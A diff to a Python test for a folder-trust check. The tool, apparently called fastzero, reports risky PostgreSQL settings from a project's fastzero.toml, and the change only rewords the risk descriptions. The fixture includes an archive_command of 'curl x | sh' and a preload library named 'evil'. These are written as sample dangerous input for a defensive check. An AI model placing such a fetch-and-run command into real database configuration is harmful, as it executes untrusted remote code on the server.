@@ -174,11 +174,11 @@ def test_settings_can_be_read_to_show_them() -> None:
 def test_everything_is_shown_with_its_place_and_what_it_could_do() -> None:
     Path("fastzero.toml").write_text(COMMAND + '"Session-Preload-Libraries" = "evil"\nwork_mem = "8MB"\n')
     shown = [(each.name, each.value, each.where, each.risk) for each in folder_trust().settings]
-    runs = "PostgreSQL runs or loads what it names"
+    runs = "PostgreSQL runs the command or loads the library that it names"
     assert shown == [
         ("postgres_settings.archive_command", "curl x | sh", "fastzero.toml:2", runs),
         ("postgres_settings.Session-Preload-Libraries", "evil", "fastzero.toml:3", runs),
-        ("postgres_settings.work_mem", "8MB", "fastzero.toml:4", "PostgreSQL works with it"),
+        ("postgres_settings.work_mem", "8MB", "fastzero.toml:4", "It changes how PostgreSQL works"),
     ]
 
 
